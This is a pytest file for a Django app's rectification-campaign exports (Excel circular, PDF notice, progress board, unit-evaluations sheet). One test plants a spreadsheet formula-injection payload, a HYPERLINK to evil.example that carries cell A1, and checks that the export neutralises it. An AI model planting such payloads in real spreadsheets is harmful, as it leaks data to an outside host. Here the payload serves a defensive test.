"""RCT-3 progress circulars (及时通报整改情况): the page, Excel with formula injection neutralised, and the PDF
通报 with the figures by organization; RCT-7 unit evaluations export."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from shuping.campaigns.models import Assessment
from shuping.documents.tests.helpers import pdf_text
from shuping.rectification import services

from .test_services import confirmed_list

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def circulated(world):
    campaign, assessment, rlist = confirmed_list(world)
    first = rlist.items.order_by("position").first()
    services.add_progress(actor=world.liaison, item=first, text="完成", marks_done=True)
    services.close_items(actor=world.organizer_staff, items=[first])
    return campaign, assessment, rlist


@pytest.mark.req("RCT-3")
def test_circular_excel_neutralises_formulas_and_counts_by_organization(world, login):
    campaign, assessment, rlist = circulated(world)
    # A name that a spreadsheet would run as a formula (it came from an import, say).
    Assessment.objects.filter(pk=assessment.pk).update(person_name=INJECTION, organization_name="+甲市委")
    response = login(world.organizer_staff).get(reverse("rectification:circular_xlsx", args=[campaign.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:4] == ["党组织", "书记", "清单状态", "整改事项"]
    row = next(r for r in rows[1:] if r[1] and INJECTION in r[1])
    assert row[0] == "'+甲市委" and row[1] == "'" + INJECTION
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    total = rlist.items.count()
    assert row[3:] == [total, 1, 0, total - 1, 100 // total]  # the open ones are past their 2024 deadline


@pytest.mark.req("RCT-3")
def test_circular_pdf_states_the_totals_and_each_organization(world, login, tmp_path):
    campaign, assessment, rlist = circulated(world)
    response = login(world.department_leader).get(reverse("rectification:circular_pdf", args=[campaign.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content, tmp_path)
    assert text is not None, "pdftotext (poppler-utils) is needed"
    flat = "".join(text.split())
    total = rlist.items.count()
    assert f"关于{campaign.year}年度述职评议考核整改落实情况的通报" in flat
    assert f"共列出整改事项{total}项，已销号1项" in flat
    assert "甲市" in flat and assessment.person_name in flat


@pytest.mark.req("RCT-3")
def test_the_board_shows_completion_and_overdue_per_organization(world, login):
    campaign, assessment, rlist = circulated(world)
    page = login(world.organizer_staff).get(reverse("rectification:campaign", args=[campaign.pk]))
    html = page.content.decode()
    total = rlist.items.count()
    assert assessment.organization_name in html and f"{100 // total}%" in html
    assert '<span class="badge bad">' in html  # the overdue count is flagged


@pytest.mark.req("RCT-7")
def test_unit_evaluations_export_carries_the_secretarys_grade(world, login):
    campaign, assessment, _rlist = circulated(world)
    response = login(world.organizer_staff).get(reverse("rectification:units_xlsx", args=[campaign.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [campaign.year, assessment.organization_name, "较好", None] in rows
